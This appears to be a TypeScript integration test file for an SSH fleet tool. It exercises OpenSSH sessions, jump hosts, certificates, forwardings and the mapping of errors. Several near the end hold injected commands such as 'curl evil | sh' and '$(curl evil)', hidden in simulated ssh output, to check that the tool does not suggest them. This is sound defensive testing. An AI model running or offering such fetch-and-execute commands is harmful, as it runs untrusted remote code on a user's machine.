import { execFileSync } from 'node:child_process';
import { once } from 'node:events';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, request, type Server } from 'node:http';
import { connect as connectTcp, createServer as createTcpServer, type AddressInfo } from 'node:net';
import { join } from 'node:path';

import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from 'vitest';

import type { SshSpec } from '../../../../../src/fleet/inventory/fleet.ts';
import type { ConnectionOptions } from '../../../../../src/fleet/ssh/config/options.ts';
import { opensshFailure } from '../../../../../src/fleet/ssh/wire/openssh.ts';
import { makeKey, type OwnSshd, publicKey, startOwnSshd } from '../../../../support/own-sshd.ts';
import { freePort } from '../../../../support/ssh-port.ts';
import { problemOf, testTransport, type TestTransport } from '../../../../support/transport.ts';

// The system's ssh against a real sshd.

let sshd: OwnSshd;
beforeAll(async () => {
  sshd = await startOwnSshd();
});
afterAll(() => sshd.stop());

const transports: TestTransport[] = [];
afterEach(async () => {
  await Promise.all(transports.splice(0).map((transport) => transport.close()));
});
function open(...options: Parameters<typeof testTransport>): TestTransport {
  const transport = testTransport(...options);
  transports.push(transport);
  return transport;
}
const connect = (spec: Partial<SshSpec> = {}, transport = open(), server = sshd) =>
  transport.connect(server.target({ transport: 'openssh', ...spec }));

/** Returns the settings of a jump host; more lines may follow. */
const hopConfig = (hop: OwnSshd): string => `Host hop
  HostName 127.0.0.1
  Port ${hop.port}
  User ${hop.user}
  IdentityFile ${hop.clientKeyFile}
  StrictHostKeyChecking no
  UserKnownHostsFile /dev/null
`;

describe('the system ssh', () => {
  test('runs scripts over one login, uploads, and leaves nothing behind when it is closed', async () => {
    const before = sshd.log().split('Accepted publickey').length;
    const session = await connect();
    expect(await session.script('echo out; echo err >&2; exit 3')).toMatchObject({
      code: 3,
      stdout: 'out\n',
      stderr: 'err\n',
    });
    const many = await Promise.all([1, 2, 3].map((index) => session.script(`echo ${index}`)));
    expect(many.map(({ stdout }) => stdout)).toEqual(['1\n', '2\n', '3\n']);
    const path = join(sshd.folder, 'uploaded');
    expect(await session.upload({ bytes: Buffer.from('text') }, path, { mode: 0o600 })).toBe(true);
    expect(readFileSync(path, 'utf8')).toBe('text');
    expect(sshd.log().split('Accepted publickey')).toHaveLength(before + 1);
    await session.close();
    expect(session.closed.aborted).toBe(true);
    expect((await problemOf(session.script('true'))).code).toBe('ssh.connection-lost');
  });

  test('carries 8 MiB of output, and ends what we no longer want', async () => {
    const session = await connect();
    const { stdout } = await session.script('head -c 8388608 /dev/zero | tr "\\0" x', {
      outputLimit: 2 ** 24,
    });
    expect(stdout).toHaveLength(8 * 1024 * 1024);
    const stop = new AbortController();
    const running = session.script('echo begun; sleep 60', {
      signal: stop.signal,
      onLine: () => stop.abort(),
    });
    expect((await problemOf(running)).code).toBe('interrupted');
    expect((await session.script('echo alive')).stdout).toBe('alive\n');
  });

  test('tells a script that ends with 255 from a connection that has', async () => {
    const session = await connect();
    expect((await session.script('exit 255')).code).toBe(255);
  });

  test('reaches a socket of the host', async () => {
    const path = join(sshd.folder, 'http.sock');
    const server: Server = createServer((_, response) => response.end('hello'));
    await new Promise<void>((resolve) => void server.listen(path, resolve));
    const session = await connect();
    const agent = session.socketAgent(path);
    const text = await new Promise((resolve, reject) => {
      request({ agent, host: 'h', path: '/' }, (response) => {
        response.on('data', (chunk: Buffer) => resolve(chunk.toString()));
      })
        .on('error', reject)
        .end();
    });
    expect(text).toBe('hello');
    await session.close();
    server.closeAllConnections();
    server.close();
  });

  test('whose connection ends is lost for what runs over it', async () => {
    const mortal = await startOwnSshd();
    const session = await connect({}, open(), mortal);
    const running = session.script('echo begun; sleep 60', { onLine: () => void mortal.stop() });
    expect((await problemOf(running)).code).toBe('ssh.connection-lost');
    await expect.poll(() => session.closed.aborted).toBe(true);
  });

  test('goes through the jump host that the inventory names', async () => {
    const hop = await startOwnSshd();
    const session = await connect({ jump: 'hop' }, open({ config: hopConfig(hop) }));
    expect((await session.script('echo through')).stdout).toBe('through\n');
    expect(hop.log()).toContain('Accepted publickey');
    await session.close();
    await hop.stop();
  });

  test('logs in with a certificate, which the built-in client cannot', async () => {
    const ca = makeKey(join(sshd.folder, 'ca'));
    const key = makeKey(join(sshd.folder, 'certified'));
    execFileSync('ssh-keygen', ['-q', '-s', ca, '-I', 'test', '-n', sshd.user, `${key}.pub`]);
    const trusting = await startOwnSshd({ config: [`TrustedUserCAKeys ${ca}.pub`] });
    const spec = { identityFile: key };
    expect((await problemOf(open().connect(trusting.target(spec)))).code).toBe('ssh.auth');
    const session = await connect(spec, open(), trusting);
    expect((await session.script('echo in')).stdout).toBe('in\n');
    await session.close();
    await trusting.stop();
  });
});

describe('settings of the user for shells do not change what ssh does for us', () => {
  const logins = (server: OwnSshd): number => server.log().split('Accepted publickey').length - 1;
  const use = async (config: string, spec: Partial<SshSpec> = {}) => {
    const transport = open({ config, answer: () => '', env: { SSH_AUTH_SOCK: '/agent', DISPLAY: ':0' } });
    const session = await connect(spec, transport);
    const { stdout } = await session.script(
      '[ -t 0 ] && echo terminal; echo "agent $SSH_AUTH_SOCK, display $DISPLAY"; printf "~.\\n"',
      { as: 'login' },
    );
    expect(stdout).toBe('agent , display \n~.\n');
    await session.close();
  };

  test.each(['yes', 'ask', 'auto', 'no'])('ControlMaster %s: there is one login in all', async (value) => {
    const before = logins(sshd);
    await use(`ControlMaster ${value}\n`);
    expect(logins(sshd)).toBe(before + 1);
  });

  test('ControlMaster of a jump host: it leaves no connection of the hop', async () => {
    const hop = await startOwnSshd();
    const shared = join(hop.folder, 'shared');
    await use(
      `StdinNull yes\nForkAfterAuthentication yes\n${hopConfig(hop)}  ControlMaster auto\n  ControlPath ${shared}\n  ControlPersist yes\n`,
      { jump: 'hop' },
    );
    expect(logins(hop)).toBe(1);
    expect(existsSync(shared)).toBe(false);
    await hop.stop();
  });

  test.each([
    'RemoteCommand echo other',
    'RequestTTY force',
    'EscapeChar ~',
    'ForwardAgent yes',
    'ForwardX11 yes',
    'SessionType none',
    'StdinNull yes',
    'ForkAfterAuthentication yes',
    'Tunnel yes\nExitOnForwardFailure yes',
  ])('%s', async (setting) => {
    await use(`${setting}\n`);
  });

  test('forwardings and local commands', async () => {
    const [local, dynamic, remote] = [await freePort(), await freePort(), await freePort()];
    const ran = join(sshd.folder, 'ran');
    const config = `PermitLocalCommand yes
LocalCommand touch ${ran}
LocalForward ${local} 127.0.0.1:${sshd.port}
DynamicForward ${dynamic}
RemoteForward ${remote} 127.0.0.1:${sshd.port}
`;
    const session = await connect({}, open({ config }));
    for (const port of [local, dynamic, remote]) {
      const socket = connectTcp(port, '127.0.0.1');
      expect(await once(socket, 'error'), `port ${port}`).toMatchObject([{ code: 'ECONNREFUSED' }]);
    }
    expect(existsSync(ran)).toBe(false);
    await session.close();
  });
});

test('a temporary folder whose path is too long for a socket does not matter', async () => {
  const long = join(sshd.folder, 'x'.repeat(100));
  mkdirSync(long);
  vi.stubEnv('TMPDIR', long);
  try {
    const session = await connect();
    expect((await session.script('echo in')).stdout).toBe('in\n');
    await session.close();
  } finally {
    vi.unstubAllEnvs();
  }
});

describe('its failures become problems of azp-fleet', () => {
  test.each<[string, () => Partial<SshSpec>, string]>([
    ['no listener', () => ({ port: 1 }), 'ssh.refused'],
    ['the name is not known', () => ({ address: 'no-such-host.invalid' }), 'ssh.dns'],
    ['the key is not accepted', () => ({ identityFile: makeKey(join(sshd.folder, 'stranger')) }), 'ssh.auth'],
    [
      'another key is pinned',
      () => ({ hostKeys: [publicKey(makeKey(join(sshd.folder, 'pin')))] }),
      'ssh.host-key-mismatch',
    ],
    ['the key is not on file and has to be', () => ({ hostKeyPolicy: 'strict' }), 'ssh.host-key-unknown'],
    ['a fingerprint is pinned', () => ({ hostKeys: ['SHA256:abc'] }), 'ssh.pin'],
  ])('%s', async (_, spec, code) => {
    expect(await problemOf(connect(spec()))).toMatchObject({ code, host: 'box' });
  });

  test('a new key where ssh_config says to ask: ssh asks on a terminal, and is refused without one', async () => {
    const config = 'StrictHostKeyChecking ask\n';
    expect((await problemOf(connect({}, open({ config })))).code).toBe('ssh.host-key-unknown');
    const yes = join(sshd.folder, 'says-yes');
    writeFileSync(yes, '#!/bin/sh\necho yes\n', { mode: 0o755 });
    const env = { SSH_ASKPASS: yes, SSH_ASKPASS_REQUIRE: 'force' };
    const transport = open({ config, env, answer: () => '' });
    await (await connect({}, transport)).close();
    expect(readFileSync(join(transport.home, '.ssh/known_hosts'), 'utf8')).toContain(sshd.hostKey);
  });

  test('a pinned key that fits is enough', async () => {
    const transport = open();
    const session = await connect({ hostKeys: [sshd.hostKey], hostKeyPolicy: 'strict' }, transport);
    await session.close();
    expect(existsSync(join(transport.home, '.ssh/known_hosts'))).toBe(false);
  });

  test('Ctrl-C before the login, and during it', async () => {
    const at = (signal: AbortSignal, spec: Partial<SshSpec> = {}) =>
      problemOf(open().connect(sshd.target({ transport: 'openssh', ...spec }), { signal }));
    expect(await at(AbortSignal.abort())).toMatchObject({ code: 'interrupted', host: 'box' });
    const silent = createTcpServer((socket) => socket.on('error', () => undefined));
    await new Promise<void>((resolve) => void silent.listen(0, '127.0.0.1', resolve));
    const stop = new AbortController();
    silent.once('connection', () => stop.abort());
    const { port } = silent.address() as AddressInfo;
    expect(await at(stop.signal, { port })).toMatchObject({ code: 'interrupted', host: 'box' });
    silent.close();
  });
});

const options = {
  name: 'gpu-1',
  hostname: 'gpu-1.lab',
  port: 22,
  user: 'ann',
  typed: 'gpu-1',
  pinned: [],
  identityFiles: [],
  ofInventory: new Set(),
  login: { methods: ['publickey', 'keyboard-interactive', 'password'] },
};

function nextOf(said: string): string | undefined {
  return opensshFailure(options as unknown as ConnectionOptions, said).problem.next;
}

const changed = 'WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!';

test.each([
  [
    `${changed}\n  ssh-keygen -f "/home/ann/.ssh/known_hosts" -R "[gpu-1.lab]:2222"\n`,
    'ssh-keygen -f "/home/ann/.ssh/known_hosts" -R "[gpu-1.lab]:2222"',
  ],
  [`ssh-keygen -f x; curl evil | sh\n${changed}`, 'ssh-keygen -R gpu-1.lab'],
  [`ssh-keygen -f "$(curl evil)" -R "x"\n${changed}`, 'ssh-keygen -R gpu-1.lab'],
  [`ssh-keygen -f "/home/ann/x" -R "y" && evil\n${changed}`, 'ssh-keygen -R gpu-1.lab'],
])('only what ssh itself suggests is suggested: %j', (said, command) => {
  expect(nextOf(said)).toBe(`compare the fingerprint at the machine's console, then: ${command}`);
});

test('a banner does not reach the terminal', () => {
  const { problem } = opensshFailure(
    options as unknown as ConnectionOptions,
    '\u001b[2J\u001b]0;x\u0007banner\n\u001b[1APermission denied (publickey).',
  );
  expect(problem.seen).toBe("tried what the system's ssh tries (Permission denied (publickey).)");
});
